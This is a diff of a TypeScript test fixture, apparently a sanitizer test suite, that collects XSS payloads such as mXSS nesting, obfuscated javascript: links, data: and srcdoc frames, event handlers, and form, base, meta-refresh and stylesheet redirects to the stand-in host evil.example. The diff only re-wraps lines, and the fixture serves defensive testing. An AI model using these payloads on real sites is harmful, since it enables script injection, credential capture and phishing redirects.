@@ -15,7 +15,8 @@ export const hostileBodies: Readonly<Record<string, string>> = {
   math: '<math><mtext><table><mglyph><style><img src=x onerror="window.hostile = 11"></style></mglyph></table></mtext></math>',
   'link by script': '<a href="javascript:window.hostile=12">press</a>',
   'link with a tab in its scheme': '<a href="java\tscript:window.hostile=13">press</a>',
-  'link with entities': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.hostile=14">press</a>',
+  'link with entities':
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.hostile=14">press</a>',
   'link with spaces in front': '<a href="  javascript:window.hostile=15">press</a>',
   'link to data': '<a href="data:text/html,<script>window.hostile=16</script>">press</a>',
   'link by vbscript': '<a href="vbscript:msgbox(1)">press</a>',
@@ -23,14 +24,16 @@ export const hostileBodies: Readonly<Record<string, string>> = {
   'link by backslashes': '<a href="/\\evil.example">press</a>',
   frame: '<iframe src="javascript:window.hostile=17"></iframe>',
   'frame with a document': '<iframe srcdoc="<script>parent.hostile=18</script>"></iframe>',
-  object: '<object data="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+"></object><embed src="javascript:window.hostile=19">',
+  object:
+    '<object data="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+"></object><embed src="javascript:window.hostile=19">',
   form: '<form action="https://evil.example"><input name="phone"><button>보내기</button></form>',
   'style attribute': '<p style="position:fixed;inset:0;background:url(javascript:window.hostile=20)">over</p>',
   'style element': '<style>body{display:none}@import url(https://evil.example/x.css);</style><p>hidden?</p>',
   base: '<base href="https://evil.example/"><a href="next">press</a>',
   meta: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   'link element': '<link rel="stylesheet" href="https://evil.example/x.css">',
-  'handler on anything': '<p onmouseover="window.hostile=21" onclick="window.hostile=22" onfocus="window.hostile=23" tabindex="0" autofocus>x</p>',
+  'handler on anything':
+    '<p onmouseover="window.hostile=21" onclick="window.hostile=22" onfocus="window.hostile=23" tabindex="0" autofocus>x</p>',
   details: '<details open ontoggle="window.hostile=24"><summary>x</summary></details>',
   'body in the body': '</div></main></body><body onload="window.hostile=25">',
   'closing the page': '</main></div></body></html><script>window.hostile=26</script>',
